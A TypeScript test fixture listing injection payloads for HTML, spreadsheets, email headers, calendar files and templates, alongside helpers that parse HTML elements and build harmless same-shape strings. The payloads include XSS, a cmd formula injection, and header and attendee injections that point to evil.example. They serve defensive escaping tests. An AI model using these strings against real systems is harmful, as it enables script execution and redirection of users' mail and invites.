/** What people type to have it run in a page, a mail program, a spreadsheet, a calendar or a template. */
export const payloads = [
  `"><img src=x onerror=alert(1)>`,
  `'" onmouseover='alert(1)' x="`,
  `</title></style><script>alert(1)</script>`,
  `javascript:alert(1)//{{7*7}}\${7*7}`,
  `=cmd|' /C calc'!A0<!--&lt;b&gt;`,
  `[a](javascript:alert(1)) <a href=//evil.example>`,
  `a\r\nBcc: all@evil.example\u202Egpj.`,
  `;\\;x,y"\r\nEND:VEVENT\r\nATTENDEE:mailto:a@evil.example`,
] as const

/** The elements of HTML with the names of their attributes, in their order: all of it but texts and styles. */
export function elementsIn(html: string): string[] {
  const withoutStyles = html.replaceAll(/<style>[^<]*<\/style>/g, '<style></style>')
  return [
    ...withoutStyles.matchAll(/<(\/?[a-z!][^\s>]*)((?:\s+[^\s=>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/gi),
  ].map(([, name = '', attributes = '']) =>
    [name, ...[...attributes.matchAll(/([^\s=]+)\s*=\s*"[^"]*"/g)].map(([, attribute]) => attribute)].join(' '),
  )
}

/** Text of the same shape that means nothing anywhere. */
export const harmless = (text: string) => text.replaceAll(/[\r\n\u202E]/g, ' ').replaceAll(/[^ ]/g, 'x')
